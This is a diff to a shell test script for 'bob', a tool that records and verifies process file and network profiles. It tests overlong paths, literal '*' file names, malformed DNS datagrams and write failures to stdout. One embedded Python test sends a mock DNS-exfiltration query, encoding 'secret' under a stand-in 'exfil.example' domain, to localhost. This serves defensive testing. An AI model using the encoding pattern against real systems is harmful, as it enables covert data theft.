@@ -213,5 +213,72 @@ assert any(o["path"] == "/etc/hostname" and o["flags"] == ["O_RDONLY"]
 PY
 [ "$rc" = 0 ] && ok "no /proc: recorded against the kernel's whole BTF"
 
+# ---- 5. what bob cannot see whole or write as it is ----------------------------------------
+# A file whose path is longer than the tracer's 511 bytes: neither the cut name nor a guess may
+# stand for it (the cut name could name another file), so recording and verifying are
+# inconclusive, not a pass.
+fails_before_long=$fails
+long="$T/$(python3 -c "print('/'.join(['d' * 100] * 5))")"
+mkdir -p "$long/sub" && echo public >"$long/f" && echo secret >"$long/sub/key"
+"$BOB" record -o "$T/long.yaml" -- /bin/cat "$long/f" >/dev/null 2>"$T/long.err"
+rc=$?
+[ "$rc" = 5 ] || fail "long path: record exit $rc, want 5"
+[ ! -e "$T/long.yaml" ] || fail "long path: record wrote a profile"
+grep -q "511-byte limit" "$T/long.err" || fail "long path: record does not say why"
+"$BOB" verify-install -q --profile "$T/tree-profile.yaml" --format json \
+  --report "$T/long.json" -- /bin/cat "$long/sub/key" >/dev/null 2>&1
+rc=$?
+[ "$rc" = 5 ] || fail "long path: verify-install exit $rc, want 5"
+grep -q "511-byte limit" "$T/long.json" || fail "long path: the report does not say why"
+[ "$fails" = "$fails_before_long" ] && ok "long path: inconclusive, never guessed"
+
+# A glob that matched nothing opens a file literally named `*`: written as it is, the entry would
+# be a wildcard and allow every file of the folder.
+mkdir -p "$T/globdir"
+"$BOB" record -o "$T/glob.yaml" -- /bin/sh -c "cat '$T'/globdir/* 2>/dev/null; exit 0" \
+  >/dev/null 2>"$T/glob.err"
+rc=$?
+[ "$rc" = 5 ] || fail "literal *: record exit $rc, want 5"
+[ ! -e "$T/glob.yaml" ] || fail "literal *: record wrote a profile"
+grep -q "globdir/\*' holds a segment '\*', which a profile reads as a wildcard" "$T/glob.err" ||
+  fail "literal *: record does not say why: $(cat "$T/glob.err")"
+[ "$rc" = 5 ] && ok "literal *: no profile that would allow the whole folder"
+
+# A DNS query whose labels hold bytes that are not printable ASCII is recorded, escaped as RFC
+# 4343 writes them, and one that is not a DNS query at all makes the run inconclusive.
+cat >"$T/dns.py" <<'PY'
+import socket, struct, sys
+def query(labels):
+    body = b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + struct.pack(">HH", 1, 1)
+    return struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + body
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.sendto(query([b"c2VjcmV0\xff", b"a.b", b"exfil", b"example"]), ("127.0.0.1", 53))
+if len(sys.argv) > 1:
+    s.sendto(b"not a dns query at all", ("127.0.0.1", 53))
+PY
+"$BOB" record --format json -o "$T/dns.json" -- python3 "$T/dns.py" >/dev/null 2>"$T/dns.err"
+rc=$?
+[ "$rc" = 0 ] || fail "dns: record exit $rc, want 0: $(tail -2 "$T/dns.err")"
+python3 - "$T/dns.json" <<'PY' || fail "dns: the escaped name is not in the profile"
+import json, sys
+doc = json.load(open(sys.argv[1]))
+hood = json.loads(doc["metadata"]["annotations"]["bob.dev/network-neighborhood"])
+names = json.dumps(hood)
+assert "c2VjcmV0\\\\255.a\\\\.b.exfil.example." in names, names
+PY
+"$BOB" record -o "$T/dns2.yaml" -- python3 "$T/dns.py" garbage >/dev/null 2>"$T/dns2.err"
+rc=$?
+[ "$rc" = 5 ] || fail "dns: a non-DNS datagram to port 53: record exit $rc, want 5"
+grep -q "no DNS query bob could read" "$T/dns2.err" || fail "dns: record does not say why"
+[ "$rc" = 5 ] && ok "dns: odd bytes recorded escaped; an unreadable datagram is inconclusive"
+
+# A report that cannot reach standard output is a failure, not a silent pass.
+"$BOB" verify-install -q --profile "$T/tree-profile.yaml" --format json -- /bin/true \
+  >/dev/full 2>"$T/full.err"
+rc=$?
+[ "$rc" = 2 ] || fail "report to a full stdout: exit $rc, want 2"
+grep -q "<stdout>: cannot write" "$T/full.err" || fail "report to a full stdout: no error"
+[ "$rc" = 2 ] && ok "report to a full stdout: exit 2"
+
 [ "$fails" = 0 ] || { echo "$fails failure(s)" >&2; exit 1; }
 echo ok
